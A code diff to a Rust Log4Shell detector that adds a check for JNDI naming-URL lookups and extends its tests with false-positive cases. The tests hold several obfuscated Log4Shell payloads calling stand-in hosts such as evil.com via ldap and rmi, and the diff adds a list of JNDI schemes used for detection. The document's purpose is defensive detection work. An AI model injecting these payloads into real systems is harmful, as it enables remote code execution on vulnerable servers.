@@ -47,12 +47,32 @@ fn resolve_lookups(text: &str) -> String {
         } else if lower.starts_with("jndi:") {
             // Keep the lookup itself, marked so the outer loop does not resolve it again.
             format!("\u{1}jndi:{}", &inner[5..])
+        } else if naming_url_lookup(&lower) {
+            // `${jnd${upper:1}:ldap://…}`: a lookup whose name was assembled from pieces (and
+            // came out wrong) still carries the naming URL it was built for.
+            format!("\u{1}jndi:{lower}")
         } else {
             String::new()
         };
         s.replace_range(start..start + len + 1, &value);
     }
     s
+}
+
+/// A lookup (`prefix:scheme:/…`) whose argument is a JNDI naming URL: a short name, then
+/// `ldap:/`, `rmi:/` or another scheme only JNDI resolves. No Log4j lookup but `jndi` takes
+/// one, and no configuration writes one.
+fn naming_url_lookup(lower: &str) -> bool {
+    let Some((name, rest)) = lower.split_once(':') else {
+        return false;
+    };
+    (1..=10).contains(&name.len())
+        && name.bytes().all(|b| b.is_ascii_alphanumeric())
+        && [
+            "ldap:/", "ldaps:/", "rmi:/", "dns:/", "iiop:/", "corba:/", "nds:/", "nis:/",
+        ]
+        .iter()
+        .any(|s| rest.starts_with(s))
 }
 
 static CLASSES: LazyLock<AhoCorasick> = LazyLock::new(|| {
@@ -447,6 +467,8 @@ mod tests {
     fn log4shell_and_its_obfuscations_are_caught() {
         for s in [
             "${jndi:ldap://evil.com/a}",
+            // A name assembled wrong, the naming URL still there (mgm's payload list).
+            "${jnd${upper:1}:ldap://y8rj5089x9qx7.fake.domain}",
             "${${lower:j}ndi:ldap://evil.com/a}",
             "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}",
             "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://evil.com/a}",
@@ -513,6 +535,10 @@ mod tests {
             "<rO0ABQ a=\"b\">v</rO0ABQ>",
             "<e KztAAU=\"v\"/>",
             "the jndi: prefix names a lookup",
+            // Shell defaults and config placeholders with a URL in them.
+            "${LDAP_URL:-ldap://localhost:389}",
+            "${ldap.url} is ldap://directory.example.com",
+            "url=${env:LDAP_URL}",
         ] {
             assert!(!hit(s), "false positive: {s}");
         }
